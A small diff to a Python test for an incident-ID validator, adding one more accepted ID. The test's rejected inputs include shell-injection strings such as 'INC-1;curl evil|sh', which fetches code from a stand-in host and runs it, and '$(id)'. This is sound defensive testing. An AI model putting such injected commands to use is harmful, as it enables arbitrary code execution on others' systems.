@@ -60,5 +60,5 @@ def test_words_behind_a_command_are_a_hosts_too():
 
 
 def test_ids_in_a_command_need_no_quotes():
-    good = ["INC-20261121-013000-bars-look-wrong", "INC-1"]
+    good = ["INC-20261121-013000-bars-look-wrong", "INC-1", "INC-by-hand"]
     assert checked_incident_ids([*good, "INC-1;curl evil|sh", "$(id)", "INC-1 x", "INC-1\n", "inc-1"]) == good
